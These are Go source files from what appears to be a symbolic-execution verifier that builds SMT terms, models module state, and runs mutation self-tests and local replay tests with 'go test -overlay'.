func (e *Env) collectHavoc(st *State, v Val, cells map[int]bool, d int) {
	if d > 3 {
		return
	}
	switch v.K {
	case kPtr:
		if !v.Ptr.RO {
			cells[v.Ptr.Cell] = true
		}
	case kIface:
		e.collectHavoc(st, *v.Inner, cells, d+1)
	case kClosure:
		for _, b := range v.Bind {
			e.collectHavoc(st, b, cells, d+1)
		}
	case kArr:
		if v.Ptr != nil {
			cells[v.Ptr.Cell] = true
		}
		for _, el := range v.Elems {
			e.collectHavoc(st, el, cells, d+1)
		}
	case kRecord, kTuple:
		for _, el := range v.Elems {
			e.collectHavoc(st, el, cells, d+1)
		}
	}
}

// baseCell finds the cell an address expression is rooted in.
// argRoots: the values a call argument is derived from by conversions and address computations.
func argRoots(a ssa.Value) []ssa.Value {
	out := []ssa.Value{a}
	for i := 0; i < 20; i++ {
		switch x := a.(type) {
		case *ssa.MakeInterface:
			a = x.X
		case *ssa.ChangeInterface:
			a = x.X
		case *ssa.ChangeType:
			a = x.X
		case *ssa.FieldAddr:
			a = x.X
		case *ssa.IndexAddr:
			a = x.X
		case *ssa.Slice:
			a = x.X
		case *ssa.Phi:
			for _, ed := range x.Edges {
				if ed != x {
					out = append(out, ed)
				}
			}
			return out
		default:
			return out
		}
		out = append(out, a)
	}
	return out
}

func (e *Env) baseCell(fr *Frame, a ssa.Value) (int, bool) {
	for i := 0; i < 20; i++ {
		switch x := a.(type) {
		case *ssa.FieldAddr:
			a = x.X
			continue
		case *ssa.IndexAddr:
			a = x.X
			continue
		}
		break
	}
	if v, ok := fr.regs[a]; ok && v.K == kPtr {
		return v.Ptr.Cell, true
	}
	if v, ok := fr.regs[a]; ok && v.K == kArr && v.Ptr != nil {
		return v.Ptr.Cell, true
	}
	return 0, false
}

// autoRangeInvariant: for the canonical "for i := range s" shape (phi [-1, i+1] compared against len),
// the index is within [-1, len) at the header. This is implied by the SSA shape itself.
func (e *Env) autoRangeInvariant(fr *Frame, st *State, b *ssa.BasicBlock, l *loop) {
	for _, ins := range b.Instrs {
		ph, ok := ins.(*ssa.Phi)
		if !ok {
			continue
		}
		var bo *ssa.BinOp
		okShape := len(ph.Edges) >= 2
		nConst := 0
		for _, ed := range ph.Edges {
			if c, isC := ed.(*ssa.Const); isC {
				if c.Value == nil || c.Value.Kind() != constant.Int || c.Int64() != -1 {
					okShape = false
				}
				nConst++
				continue
			}
			b2, isB := ed.(*ssa.BinOp)
			if !isB || b2.X != ph || (bo != nil && bo != b2) {
				okShape = false
				break
			}
			bo = b2
		}
		if !okShape || nConst != 1 || bo == nil {
			continue
		}
		// find the comparison "inc < len" guarding the body
		for _, r := range *bo.Referrers() {
			cmp, ok := r.(*ssa.BinOp)
			if !ok || cmp.X != bo {
				continue
			}
			lenv, ok := fr.regs[cmp.Y]
			if !ok {
				continue
			}
			pv := fr.regs[ph]
			// -1 <= i < len   (signed)
			st.assume(tApp("bvsge", pv.T, bvLit(^uint64(0), 64)))
			st.assume(tApp("bvslt", pv.T, e.term(st, lenv)))
			st.assume(tApp("bvsge", e.term(st, lenv), bvLit(0, 64)))
		}
	}
}

// applyForKey positions the store iterator of the frame on an arbitrary key of the given family.
func (e *Env) applyForKey(fr *Frame, st *State, ct *Contract, fk *ForKey) {
	vars := e.localVars(st, fr)
	cx := &cenv{e: e, pre: e.oldState, post: st, vars: vars, ct: ct, file: ct.File}
	if fr.loopVars == nil {
		fr.loopVars = map[string]Val{}
	}
	for _, v := range fk.Vars {
		t := cx.resolveTypeText(v[1])
		if t == nil {
			e.fail("forkey: unknown type %s", v[1])
			return
		}
		val := e.symbolic(st, t, "fk_"+v[0])
		vars[v[0]] = val
		fr.loopVars[v[0]] = val
	}
	if fk.Requires != nil {
		st.assume(cx.evalBool(fk.Requires))
	}
	key := cx.eval(fk.Expr)
	if e.err != nil {
		return
	}
	segs := e.byteSegs(st, key)
	n := 0
	for k, v := range fr.regs {
		if v.K != kIter || v.Iter == nil || v.Iter.Store == nil {
			continue
		}
		n++
		nit := *v.Iter
		rel := segs
		if len(nit.Store.Prefix) > 0 {
			if pl, ok := segsConstLen(nit.Store.Prefix); ok {
				if sub, ok2 := segsSuffix(segs, pl); ok2 {
					rel = sub
				}
			}
		}
		if len(nit.Prefix) > 0 {
			// a prefix iterator only yields keys that have its prefix: a consequence of that fact is assumed
			// (when the segment algebra cannot decide the relation nothing is assumed, which is weaker and sound)
			if f, hyps, ok := e.segsHasPrefixH(segs, nit.Prefix); ok {
				st.assume(tImplies(tAnd(hyps...), f))
			} else {
				e.notes["forkey: relation between the key family and the iterator prefix not decided by the segment algebra; nothing assumed"]++
			}
		}
		nit.Key = e.segsTerm(rel)
		nit.KeySegs = rel
		nit.Valid = "true"
		m := e.readComp(st, nit.Store.World, nit.Store.Comp)
		nit.Val = fmt.Sprintf("(select %s %s)", m, e.segsTerm(segs))
		st.assume(tNot(tEq(nit.Val, "nilStr")))
		fr.regs[k] = Val{K: kIter, Typ: v.Typ, Iter: &nit}
	}
	if n != 1 {
		e.fail("forkey: expected exactly one store iterator in %s, found %d", fr.fn.Name(), n)
	}
}

// collectCallNames adds the (last) names of everything called by the instructions, following static teleport
// callees (they may be inlined).
func collectCallNames(owner *ssa.Function, instrs []ssa.Instruction, names map[string]bool, seen map[*ssa.Function]bool, depth int) {
	for _, ins := range instrs {
		ci, ok := ins.(ssa.CallInstruction)
		if !ok {
			continue
		}
		c := ci.Common()
		switch {
		case c.IsInvoke():
			names[c.Method.Name()] = true
		case c.StaticCallee() != nil:
			f := c.StaticCallee()
			names[f.Name()] = true
			if isTeleport(f) && !seen[f] && depth < 8 {
				seen[f] = true
				for _, b := range f.Blocks {
					collectCallNames(f, b.Instrs, names, seen, depth+1)
				}
				for _, an := range f.AnonFuncs {
					for _, b := range an.Blocks {
						collectCallNames(an, b.Instrs, names, seen, depth+1)
					}
				}
			}
			if mc, ok := c.Value.(*ssa.MakeClosure); ok {
				if fn, ok := mc.Fn.(*ssa.Function); ok && !seen[fn] {
					seen[fn] = true
					for _, b := range fn.Blocks {
						collectCallNames(fn, b.Instrs, names, seen, depth+1)
					}
				}
			}
		default:
			names[sourceName(owner, c.Value)] = true
		}
	}
}
