package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
)

// Mutant describes a deliberate change applied through an in-memory overlay.
type Mutant struct {
	Name    string   `json:"name"`
	File    string   `json:"file"` // relative to the repo
	Old     string   `json:"old"`
	New     string   `json:"new"`
	Expect  string   `json:"expect"` // regexp over failing obligation names; "" = must keep verifying (harmless-edit canary)
	Comment string   `json:"comment"`
	Imports []string `json:"imports"` // import paths the mutated file additionally needs
}

func applyMutant(m Mutant) (map[string][]byte, error) {
	path := filepath.Join(repoDir(), m.File)
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	s := string(data)
	if !strings.Contains(s, m.Old) {
		return nil, fmt.Errorf("mutant %s: old text not found in %s", m.Name, m.File)
	}
	s = strings.Replace(s, m.Old, m.New, 1)
	for _, imp := range m.Imports {
		if strings.Contains(s, "\""+imp+"\"") {
			continue
		}
		i := strings.Index(s, "import (")
		if i < 0 {
			return nil, fmt.Errorf("mutant %s: no import block in %s", m.Name, m.File)
		}
		s = s[:i+len("import (")] + "\n\t\"" + imp + "\"" + s[i+len("import ("):]
	}
	return map[string][]byte{path: []byte(s)}, nil
}

func loadMutants(id string) []Mutant {
	dir := filepath.Join(verifDir(), "selftest", "mutants", id)
	ents, _ := os.ReadDir(dir)
	var out []Mutant
	for _, e := range ents {
		if !strings.HasSuffix(e.Name(), ".json") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			continue
		}
		var ms []Mutant
		if err := json.Unmarshal(data, &ms); err != nil {
			var m Mutant
			if err2 := json.Unmarshal(data, &m); err2 != nil {
				fmt.Fprintf(os.Stderr, "bad mutant file %s: %v\n", e.Name(), err)
				continue
			}
			ms = []Mutant{m}
		}
		for i := range ms {
			if ms[i].Name == "" {
				ms[i].Name = fmt.Sprintf("%s#%d", strings.TrimSuffix(e.Name(), ".json"), i)
			}
		}
		out = append(out, ms...)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// runMutants runs the property's must-fail corpus; returns (killed, total, problems).
func runMutants(id string, tier string) (int, int, []string) {
	ms := loadMutants(id)
	killed := 0
	var problems []string
	for _, m := range ms {
		ov, err := applyMutant(m)
		if err != nil {
			problems = append(problems, err.Error())
			continue
		}
		res := runCheck(id, checkOpts{tier: "quick", timeoutS: 10, overlay: ov, quiet: true, noEvid: true, silent: true})
		var failing []string
		for _, o := range res.failed {
			failing = append(failing, stableName(o.Name()))
		}
		if m.Expect == "" {
			if res.exit != 0 {
				problems = append(problems, fmt.Sprintf("harmless edit %s no longer verifies (exit %d): %v %v", m.Name, res.exit, failing, res.undecided))
			} else {
				killed++
			}
			continue
		}
		re, err := regexp.Compile(m.Expect)
		if err != nil {
			problems = append(problems, fmt.Sprintf("mutant %s: bad expect regexp", m.Name))
			continue
		}
		hit := false
		for _, f := range failing {
			if re.MatchString(f) {
				hit = true
			}
		}
		if hit {
			killed++
		} else {
			problems = append(problems, fmt.Sprintf("mutant %s survived: expected failing obligation /%s/, got exit %d failing=%v undecided=%v", m.Name, m.Expect, res.exit, failing, res.undecided))
		}
	}
	return killed, len(ms), problems
}

func cmdSelftest(args []string) {
	ids := args
	if len(ids) == 0 {
		ents, _ := os.ReadDir(filepath.Join(verifDir(), "selftest", "mutants"))
		for _, e := range ents {
			if e.IsDir() {
				ids = append(ids, e.Name())
			}
		}
	}
	bad := 0
	for _, id := range ids {
		k, n, probs := runMutants(id, "quick")
		fmt.Printf("selftest %s: %d/%d mutants behaved as expected\n", id, k, n)
		for _, p := range probs {
			fmt.Println("  PROBLEM:", p)
			bad++
		}
	}
	if bad > 0 {
		os.Exit(1)
	}
}

// cmdMutate: govc mutate <Cxx> <file> <old> <new>   (ad-hoc experiment)
func cmdMutate(args []string) {
	if len(args) < 4 {
		fmt.Fprintln(os.Stderr, "usage: govc mutate <Cxx> <file> <old> <new>")
		os.Exit(2)
	}
	ov, err := applyMutant(Mutant{Name: "adhoc", File: args[1], Old: args[2], New: args[3]})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	res := runCheck(args[0], checkOpts{tier: "quick", timeoutS: 10, overlay: ov, noEvid: true, keep: os.Getenv("VERIF_KEEP") != ""})
	os.Exit(res.exit)
}
