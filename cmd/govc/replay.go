package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"
)

var fkModelRe = regexp.MustCompile(`\(define-fun fk_([A-Za-z0-9_]+)![0-9]+ \(\) \(_ BitVec 64\)\s+#b([01]{64})\)`)

// ReplaySpec: which Go test (kept under /verif/replay, injected with `go test -overlay`) replays an obligation.
type ReplaySpec struct {
	Match string `json:"match"` // regexp over the stable obligation name
	Pkg   string `json:"pkg"`   // package directory relative to the repo, e.g. ./x/rvesting/module
	File  string `json:"file"`  // file under /verif/replay
	Run   string `json:"run"`   // -run pattern
	// properties for which this replay is the history of a REPAIRED defect: the thorough tier runs it against the
	// current tree as a regression (REPLAY-CONFIRMED = the defect is back, a violation with its failing history)
	Regress []string `json:"regression_of_fixed_defect_for"`
	// properties for which this replay is the history of a defect that is recorded and NOT repaired (known finding): it
	// is run on every check of the property; REPLAY-CONFIRMED fails the obligation bounded:finding-replay:<run>, which
	// known_findings.txt lists (KNOWN-FINDING line, exit 0)
	Open []string `json:"open_finding_for"`
}

func loadReplaySpecs() []ReplaySpec {
	data, err := os.ReadFile(filepath.Join(verifDir(), "replay", "replays.json"))
	if err != nil {
		return nil
	}
	var out []ReplaySpec
	if err := json.Unmarshal(data, &out); err != nil {
		fmt.Fprintln(os.Stderr, "replay/replays.json:", err)
	}
	return out
}

// runReplay runs the replay test against /repo's working tree; returns its output and whether the
// violation manifested (the test prints REPLAY-CONFIRMED).
func runReplay(spec ReplaySpec, model string) (string, bool) {
	scratch := filepath.Join(verifDir(), "run", fmt.Sprintf("replay-%d", os.Getpid()))
	os.MkdirAll(scratch, 0o755)
	defer os.RemoveAll(scratch)
	target := filepath.Join(repoDir(), strings.TrimPrefix(spec.Pkg, "./"), "zz_verif_replay_test.go")
	src := filepath.Join(verifDir(), "replay", spec.File)
	ov := map[string]map[string]string{"Replace": {target: src}}
	data, _ := json.Marshal(ov)
	ovf := filepath.Join(scratch, "ov.json")
	os.WriteFile(ovf, data, 0o644)
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "go", "test", "-overlay", ovf, "-vet=off", "-timeout", "240s", "-count=1", "-v", "-run", spec.Run, spec.Pkg)
	cmd.Dir = repoDir()
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	// values of the universally quantified key variables in the solver's counterexample
	var used []string
	for _, m := range fkModelRe.FindAllStringSubmatch(model, -1) {
		if v, err := strconv.ParseUint(m[2], 2, 64); err == nil {
			cmd.Env = append(cmd.Env, fmt.Sprintf("VERIF_FK_%s=%d", m[1], v))
			used = append(used, fmt.Sprintf("%s=%d", m[1], v))
		}
	}
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	_ = cmd.Run()
	var keep []string
	for _, ln := range strings.Split(out.String(), "\n") {
		if strings.Contains(ln, "REPLAY-") || strings.HasPrefix(ln, "--- ") || strings.HasPrefix(ln, "FAIL") || strings.HasPrefix(ln, "ok ") || strings.HasPrefix(ln, "panic:") {
			keep = append(keep, ln)
		}
	}
	text := "$ go test -overlay <ov.json> -vet=off -run '" + spec.Run + "' " + spec.Pkg + "\n" + strings.Join(keep, "\n")
	if len(used) > 0 {
		text = "counterexample values passed to the replay: " + strings.Join(used, " ") + "\n" + text
	}
	return text, strings.Contains(out.String(), "REPLAY-CONFIRMED")
}

func runReplayAdapter(id string, o *Obligation, cfg *PropConfig) (string, bool) {
	name := stableName(o.Name())
	for _, spec := range loadReplaySpecs() {
		re, err := regexp.Compile(spec.Match)
		if err != nil || !re.MatchString(name) {
			continue
		}
		return runReplay(spec, o.Model)
	}
	return "", false
}

// runBounded runs a bounded stand-in test; ok iff it printed BOUNDED-OK and no BOUNDED-FAIL.
func runBounded(bc BoundedCheck, opts checkOpts) (string, bool) {
	scratch := filepath.Join(verifDir(), "run", fmt.Sprintf("bounded-%d", os.Getpid()))
	os.MkdirAll(scratch, 0o755)
	defer os.RemoveAll(scratch)
	target := filepath.Join(repoDir(), strings.TrimPrefix(bc.Pkg, "./"), "zz_verif_bounded_test.go")
	src := filepath.Join(verifDir(), "bounded", bc.File)
	ov := map[string]map[string]string{"Replace": {target: src}}
	for k, v := range opts.overlay {
		// a mutant under test: write it to a scratch file so that go test sees it too
		mf := filepath.Join(scratch, fmt.Sprintf("m%d.go", len(ov["Replace"])))
		os.WriteFile(mf, v, 0o644)
		ov["Replace"][k] = mf
	}
	data, _ := json.Marshal(ov)
	ovf := filepath.Join(scratch, "ov.json")
	os.WriteFile(ovf, data, 0o644)
	ctx, cancel := context.WithTimeout(context.Background(), 900*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "go", "test", "-overlay", ovf, "-vet=off", "-timeout", "800s", "-count=1", "-v", "-run", bc.Run, bc.Pkg)
	cmd.Dir = repoDir()
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "VERIF_TIER="+opts.tier, fmt.Sprintf("VERIF_SEED=%d", opts.seed))
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	_ = cmd.Run()
	var keep []string
	for _, ln := range strings.Split(out.String(), "\n") {
		if strings.Contains(ln, "BOUNDED-") || strings.HasPrefix(ln, "FAIL") || strings.HasPrefix(ln, "ok ") || strings.HasPrefix(ln, "panic:") || strings.Contains(ln, "cannot") {
			keep = append(keep, trunc(ln, 600))
		}
	}
	text := strings.Join(keep, "\n")
	return text, strings.Contains(text, "BOUNDED-OK") && !strings.Contains(text, "BOUNDED-FAIL") && !strings.Contains(text, "FAIL")
}
