package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"time"
)

// ReplaySpec: which Go test (kept under /verif/replay, injected with `go test -overlay`) replays an obligation.
type ReplaySpec struct {
	Match string `json:"match"` // regexp over the stable obligation name
	Pkg   string `json:"pkg"`   // package directory relative to the repo, e.g. ./x/rvesting/module
	File  string `json:"file"`  // file under /verif/replay
	Run   string `json:"run"`   // -run pattern
}

func loadReplaySpecs() []ReplaySpec {
	data, err := os.ReadFile(filepath.Join(verifDir(), "replay", "replays.json"))
	if err != nil {
		return nil
	}
	var out []ReplaySpec
	if err := json.Unmarshal(data, &out); err != nil {
		fmt.Fprintln(os.Stderr, "replay/replays.json:", err)
	}
	return out
}

// runReplay runs the replay test against /repo's working tree; returns its output and whether the
// violation manifested (the test prints REPLAY-CONFIRMED).
func runReplay(spec ReplaySpec) (string, bool) {
	scratch := filepath.Join(verifDir(), "run", fmt.Sprintf("replay-%d", os.Getpid()))
	os.MkdirAll(scratch, 0o755)
	defer os.RemoveAll(scratch)
	target := filepath.Join(repoDir(), strings.TrimPrefix(spec.Pkg, "./"), "zz_verif_replay_test.go")
	src := filepath.Join(verifDir(), "replay", spec.File)
	ov := map[string]map[string]string{"Replace": {target: src}}
	data, _ := json.Marshal(ov)
	ovf := filepath.Join(scratch, "ov.json")
	os.WriteFile(ovf, data, 0o644)
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "go", "test", "-overlay", ovf, "-vet=off", "-timeout", "240s", "-count=1", "-v", "-run", spec.Run, spec.Pkg)
	cmd.Dir = repoDir()
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	_ = cmd.Run()
	var keep []string
	for _, ln := range strings.Split(out.String(), "\n") {
		if strings.Contains(ln, "REPLAY-") || strings.HasPrefix(ln, "--- ") || strings.HasPrefix(ln, "FAIL") || strings.HasPrefix(ln, "ok ") || strings.HasPrefix(ln, "panic:") {
			keep = append(keep, ln)
		}
	}
	text := "$ go test -overlay <ov.json> -vet=off -run '" + spec.Run + "' " + spec.Pkg + "\n" + strings.Join(keep, "\n")
	return text, strings.Contains(out.String(), "REPLAY-CONFIRMED")
}

func runReplayAdapter(id string, o *Obligation, cfg *PropConfig) (string, bool) {
	name := stableName(o.Name())
	for _, spec := range loadReplaySpecs() {
		re, err := regexp.Compile(spec.Match)
		if err != nil || !re.MatchString(name) {
			continue
		}
		return runReplay(spec)
	}
	return "", false
}
