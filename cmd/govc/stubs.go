package main

func runLemmas(p *Program, cx *Contracts, cfg *PropConfig) ([]*Obligation, []string) { return nil, nil }
