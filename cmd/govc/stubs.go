package main

func runLemmas(p *Program, cx *Contracts, cfg *PropConfig) ([]*Obligation, []string) { return nil, nil }


func runReplayAdapter(id string, o *Obligation, cfg *PropConfig) (string, bool) { return "", false }
