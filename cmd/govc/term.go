package main

import (
	"fmt"
	"go/types"
	"sort"
	"strings"
)

// ---------------------------------------------------------------------------
// SMT terms are plain strings; these constructors do light simplification so
// that syntactically decided branches are pruned without a solver call.
// ---------------------------------------------------------------------------

const (
	sBool  = "Bool"
	sInt   = "Int"
	sStr   = "Str"   // strings and byte slices: uninterpreted sort with slen
	sIface = "Iface" // all interface values
	sKV    = "(Array Str Str)"
)

func bvSort(w int) string { return fmt.Sprintf("(_ BitVec %d)", w) }

func tTrue() string  { return "true" }
func tFalse() string { return "false" }

func tNot(a string) string {
	switch a {
	case "true":
		return "false"
	case "false":
		return "true"
	}
	if strings.HasPrefix(a, "(not ") && balancedOne(a[5:len(a)-1]) {
		return a[5 : len(a)-1]
	}
	return "(not " + a + ")"
}

// balancedOne reports whether s is exactly one s-expression.
func balancedOne(s string) bool {
	if s == "" {
		return false
	}
	if s[0] != '(' {
		return !strings.ContainsAny(s, " ()")
	}
	d := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '(':
			d++
		case ')':
			d--
			if d == 0 && i != len(s)-1 {
				return false
			}
		case '|':
			j := strings.IndexByte(s[i+1:], '|')
			if j < 0 {
				return false
			}
			i += j + 1
		}
	}
	return d == 0
}

func tAnd(xs ...string) string {
	var out []string
	seen := map[string]bool{}
	for _, x := range xs {
		if x == "true" || x == "" {
			continue
		}
		if x == "false" {
			return "false"
		}
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	switch len(out) {
	case 0:
		return "true"
	case 1:
		return out[0]
	}
	return "(and " + strings.Join(out, " ") + ")"
}

func tOr(xs ...string) string {
	var out []string
	seen := map[string]bool{}
	for _, x := range xs {
		if x == "false" || x == "" {
			continue
		}
		if x == "true" {
			return "true"
		}
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	switch len(out) {
	case 0:
		return "false"
	case 1:
		return out[0]
	}
	return "(or " + strings.Join(out, " ") + ")"
}

func tImplies(a, b string) string {
	if a == "true" {
		return b
	}
	if a == "false" || b == "true" {
		return "true"
	}
	if b == "false" {
		return tNot(a)
	}
	return "(=> " + a + " " + b + ")"
}

func tEq(a, b string) string {
	if a == b {
		return "true"
	}
	if isBVLit(a) && isBVLit(b) {
		return "false"
	}
	if isStrLitName(a) && isStrLitName(b) {
		return "false" // distinct literal constants
	}
	if (a == "true" && b == "false") || (a == "false" && b == "true") {
		return "false"
	}
	if b == "true" {
		return a
	}
	if a == "true" {
		return b
	}
	if b == "false" {
		return tNot(a)
	}
	if a == "false" {
		return tNot(b)
	}
	return "(= " + a + " " + b + ")"
}

func tIte(c, a, b string) string {
	if c == "true" {
		return a
	}
	if c == "false" {
		return b
	}
	if a == b {
		return a
	}
	return "(ite " + c + " " + a + " " + b + ")"
}

func tApp(f string, args ...string) string {
	if len(args) == 0 {
		return f
	}
	return "(" + f + " " + strings.Join(args, " ") + ")"
}

func isStrLitName(a string) bool {
	if a == "emptyStr" {
		return true
	}
	if !strings.HasPrefix(a, "lit") || len(a) < 5 {
		return false
	}
	i := 3
	for i < len(a) && a[i] >= '0' && a[i] <= '9' {
		i++
	}
	return i > 3 && i < len(a) && a[i] == '_' && !strings.ContainsAny(a, " ()")
}

func isBVLit(a string) bool { return strings.HasPrefix(a, "(_ bv") }

func bvLit(v uint64, w int) string {
	if w < 64 {
		v &= (1 << uint(w)) - 1
	}
	return fmt.Sprintf("(_ bv%d %d)", v, w)
}

func bvLitVal(a string) (uint64, int, bool) {
	var v uint64
	var w int
	if n, _ := fmt.Sscanf(a, "(_ bv%d %d)", &v, &w); n == 2 {
		return v, w, true
	}
	return 0, 0, false
}

func intLit(v int64) string {
	if v < 0 {
		return fmt.Sprintf("(- %d)", -v)
	}
	return fmt.Sprintf("%d", v)
}

// smtSym makes an identifier safe for SMT-LIB.
func smtSym(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '_', r == '.', r == '$':
			b.WriteRune(r)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}

// ---------------------------------------------------------------------------
// Declarations registry (per checked function)
// ---------------------------------------------------------------------------

type Decls struct {
	sorts     map[string]bool // uninterpreted sorts
	datatypes []string        // declare-datatypes texts, in dependency order
	dtSeen    map[string]bool
	funs      map[string]string // name -> full declare-fun/define-fun text
	funOrder  []string
	consts    map[string]string // name -> sort
	constOrd  []string
	axioms    []string          // global assertions (always included)
	lits      map[string]string // Str literal content -> const name
	litOrder  []string
	n         int
	structOf  map[string]*types.Struct // datatype sort name -> go struct
	typeTags  map[string]int
	tagOrder  []string
}

func newDecls() *Decls {
	d := &Decls{sorts: map[string]bool{}, dtSeen: map[string]bool{}, funs: map[string]string{},
		consts: map[string]string{}, lits: map[string]string{}, structOf: map[string]*types.Struct{}, typeTags: map[string]int{}}
	d.sorts[sStr] = true
	d.sorts[sIface] = true
	d.declFun("slen64", "(declare-fun slen64 (Str) (_ BitVec 64))")
	d.consts["nilStr"] = sStr
	d.constOrd = append(d.constOrd, "nilStr")
	d.consts["emptyStr"] = sStr
	d.constOrd = append(d.constOrd, "emptyStr")
	d.consts["nilI"] = sIface
	d.constOrd = append(d.constOrd, "nilI")
	d.declFun("tagof", "(declare-fun tagof (Iface) Int)")
	d.axioms = append(d.axioms, "(= (slen64 nilStr) (_ bv0 64))", "(= (slen64 emptyStr) (_ bv0 64))")
	return d
}

func (d *Decls) fresh(prefix, sort string) string {
	d.n++
	name := fmt.Sprintf("%s!%d", smtSym(prefix), d.n)
	d.consts[name] = sort
	d.constOrd = append(d.constOrd, name)
	return name
}

func (d *Decls) namedConst(name, sort string) string {
	name = smtSym(name)
	if s, ok := d.consts[name]; ok {
		if s != sort {
			// disambiguate
			return d.namedConst(name+"_"+smtSym(sort), sort)
		}
		return name
	}
	d.consts[name] = sort
	d.constOrd = append(d.constOrd, name)
	return name
}

func (d *Decls) declSort(s string) {
	d.sorts[s] = true
}

func (d *Decls) declFun(name, text string) {
	if _, ok := d.funs[name]; ok {
		return
	}
	d.funs[name] = text
	d.funOrder = append(d.funOrder, name)
}

// uf declares (once) an uninterpreted function and returns its application.
func (d *Decls) uf(name string, argSorts []string, ret string, args ...string) string {
	name = smtSym(name)
	d.declFun(name, fmt.Sprintf("(declare-fun %s (%s) %s)", name, strings.Join(argSorts, " "), ret))
	return tApp(name, args...)
}

// strLit returns the constant for a literal string.
func (d *Decls) strLit(content string) string {
	if content == "" {
		return "emptyStr"
	}
	if n, ok := d.lits[content]; ok {
		return n
	}
	name := fmt.Sprintf("lit%d_%s", len(d.lits), smtSym(trunc(content, 24)))
	d.lits[content] = name
	d.litOrder = append(d.litOrder, content)
	d.consts[name] = sStr
	d.constOrd = append(d.constOrd, name)
	return name
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}

func (d *Decls) typeTag(key string) int {
	if t, ok := d.typeTags[key]; ok {
		return t
	}
	t := len(d.typeTags) + 1
	d.typeTags[key] = t
	d.tagOrder = append(d.tagOrder, key)
	return t
}

// litAxioms: literals are pairwise distinct, have their length, and differ from nil/empty.
func (d *Decls) litAxioms() []string {
	var out []string
	if len(d.litOrder) > 0 {
		names := []string{"nilStr", "emptyStr"}
		for _, c := range d.litOrder {
			names = append(names, d.lits[c])
			out = append(out, fmt.Sprintf("(= (slen64 %s) (_ bv%d 64))", d.lits[c], len(c)))
		}
		out = append(out, "(distinct "+strings.Join(names, " ")+")")
	} else {
		out = append(out, "(distinct nilStr emptyStr)")
	}
	return out
}

// preamble renders all declarations needed by body (consts are filtered by use).
func (d *Decls) preamble(body string) string {
	var b strings.Builder
	b.WriteString("(set-option :produce-models true)\n(set-logic ALL)\n")
	var ss []string
	for s := range d.sorts {
		ss = append(ss, s)
	}
	sort.Strings(ss)
	for _, s := range ss {
		if s == "Time" {
			// instants are mathematical integers (nanoseconds); Add/After/Before are arithmetic, Unix/UnixNano stay uninterpreted
			b.WriteString("(define-sort Time () Int)\n")
			continue
		}
		fmt.Fprintf(&b, "(declare-sort %s 0)\n", s)
	}
	for _, dt := range d.datatypes {
		b.WriteString(dt)
		b.WriteByte('\n')
	}
	// consts used
	used := identSet(body + " " + strings.Join(d.axioms, " "))
	// function definitions may reference consts too
	for _, f := range d.funOrder {
		for k := range identSet(d.funs[f]) {
			used[k] = true
		}
	}
	for _, c := range d.constOrd {
		if used[c] || c == "nilStr" || c == "emptyStr" || c == "nilI" || strings.HasPrefix(c, "lit") {
			fmt.Fprintf(&b, "(declare-const %s %s)\n", c, d.consts[c])
		}
	}
	for _, f := range d.funOrder {
		b.WriteString(d.funs[f])
		b.WriteByte('\n')
	}
	for _, a := range d.axioms {
		fmt.Fprintf(&b, "(assert %s)\n", a)
	}
	for _, a := range d.litAxioms() {
		fmt.Fprintf(&b, "(assert %s)\n", a)
	}
	return b.String()
}

func identSet(s string) map[string]bool {
	out := map[string]bool{}
	i := 0
	for i < len(s) {
		c := s[i]
		if c == '(' || c == ')' || c == ' ' || c == '\n' || c == '\t' {
			i++
			continue
		}
		j := i
		for j < len(s) && s[j] != '(' && s[j] != ')' && s[j] != ' ' && s[j] != '\n' && s[j] != '\t' {
			j++
		}
		out[s[i:j]] = true
		i = j
	}
	return out
}
