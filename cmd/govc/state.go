package main

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// World is the module state reachable from one sdk.Context value.
// A root world holds one SMT term per component. A child world (CacheContext)
// holds a log of operations which are applied on top of the parent's current
// value at read time and replayed on the parent by write().
type World struct {
	Parent int // -1 for root
	Comps  map[string]string
	Ops    []WorldOp
	Name   string
}

type WorldOp struct {
	Comp string
	F    func(string) string
	Desc string
}

type CallRec struct {
	Name  string
	Args  []Val
	Res   Val
	Seq   int
	PreW  map[string]string
	PostW map[string]string
}

type State struct {
	cells      map[int]Val
	pc         []string
	worlds     map[int]*World
	defs       []string  // definitional facts (always true of the terms they mention)
	calls      []CallRec // ghost log of calls (contracted / intrinsic externals of interest)
	dead       bool
	loopMark   int             // index into calls at the last loop entry
	loopNames  map[string]bool // callee names that may be called inside a loop entered on this path (immutable map, replaced on change)
	retInLoops []int           // ordinals of the loops whose body contains the return that ended this path
